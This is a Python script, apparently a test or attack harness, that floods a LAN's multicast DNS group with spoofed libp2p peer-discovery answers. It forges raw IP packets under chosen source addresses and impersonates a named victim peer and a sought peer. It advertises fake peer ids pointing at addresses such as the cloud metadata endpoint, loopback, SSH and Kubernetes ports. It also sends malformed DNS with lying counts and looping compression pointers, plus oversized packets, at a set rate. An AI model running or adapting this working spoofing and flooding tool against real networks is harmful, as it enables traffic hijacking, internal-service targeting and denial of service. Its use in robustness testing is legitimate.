# Answers multicast DNS without the key, in everybody's name. Says "flooding" at the start, "sent N" at the end.
# Arguments: own address on the LAN, seconds, packets a second, the peer id of a node that is looked for, the victim's peer id, addresses to
# send as (the machine's own or not), separated by commas
import random, socket, struct, sys, time

own, seconds, rate, wanted, victim = sys.argv[1], float(sys.argv[2]), int(sys.argv[3]), sys.argv[4], sys.argv[5]
sources = sys.argv[6].split(",")
GROUP = "224.0.0.251"
SERVICE = b"\x04_p2p\x04_udp\x05local\x00"
FORBIDDEN = ["127.0.0.1", "169.254.169.254", "169.254.96.16", "224.0.0.251", "0.0.0.0", "255.255.255.255", "198.51.100.1", "10.244.1.1", "203.0.113.9"]
ALPHABET = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def made_up():
    # An Ed25519 key as a multihash: 00 24 08 01 12 20 and 32 bytes, in base58.
    n = int.from_bytes(b"\x00\x24\x08\x01\x12\x20" + random.randbytes(32), "big")
    text = ""
    while n:
        n, r = divmod(n, 58)
        text = ALPHABET[r] + text
    return "1" + text


def record(name, kind, data):
    return name + struct.pack("!HHIH", kind, 1, 120, len(data)) + data


def answer(addresses, peer, records=1):
    texts = b"".join(bytes([len(t)]) + t for t in (f"dnsaddr=/ip4/{a}/tcp/{p}/p2p/{peer}".encode() for a, p in addresses))
    body = record(b"\x03" + random.randbytes(3).hex()[:3].encode() + SERVICE, 16, texts) * records
    return struct.pack("!HHHHHH", 0, 0x8400, 0, 0, 0, records) + body


def packets(source):
    yield answer([(source, 20006)], wanted)
    yield answer([(source, 20006)], victim)
    yield answer([(source, 20006)], made_up())
    yield answer([(source, 22), (source, 6443), (source, 20006)], made_up())
    yield answer([(a, 20006) for a in random.sample(FORBIDDEN, 3)], wanted)
    yield answer([(a, 9999) for a in random.sample(FORBIDDEN, 3)], made_up())
    # Counts that lie, a name that points to itself, pointers in a chain, a question, and noise.
    yield struct.pack("!HHHHHH", 0, 0x8400, 0, 65535, 0, 0) + record(SERVICE, 12, b"\xc0\x0c") * 30
    yield struct.pack("!HHHHHH", 0, 0x8400, 0, 1, 0, 0) + b"\xc0\x0c" + struct.pack("!HHIH", 16, 1, 120, 0)
    yield struct.pack("!HHHHHH", 0, 0x8400, 0, 40, 0, 0) + b"".join(b"\xc0" + bytes([12 + 2 * i]) for i in range(60))
    yield struct.pack("!HHHHHH", 0, 0, 1, 0, 0, 0) + SERVICE + struct.pack("!HH", 12, 1)
    yield random.randbytes(random.randrange(1, 600))


def raw(source, payload):
    udp = struct.pack("!HHHH", 5353, 5353, 8 + len(payload), 0) + payload
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 255, 17, 0, socket.inet_aton(source), socket.inet_aton(GROUP)) + udp


ready = [raw(source, p) for source in sources for _ in range(4) for p in packets(source) if len(p) < 1400]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
large = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
large.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
jumbo = [answer([(own, 20006)] * 3, made_up(), 60)[:9000] for _ in range(8)] + [random.randbytes(9000), answer([(own, 20006)], wanted, 64) + bytes(20000)]
print("flooding", flush=True)
begun, sent = time.monotonic(), 0
while (passed := time.monotonic() - begun) < seconds:
    while sent < passed * rate:
        try:
            if sent % 50 == 0:
                large.sendto(random.choice(jumbo), (GROUP, 5353))
            s.sendto(random.choice(ready), (GROUP, 0))
        except OSError:
            pass
        sent += 1
    time.sleep(0.001)
print("sent", sent, flush=True)
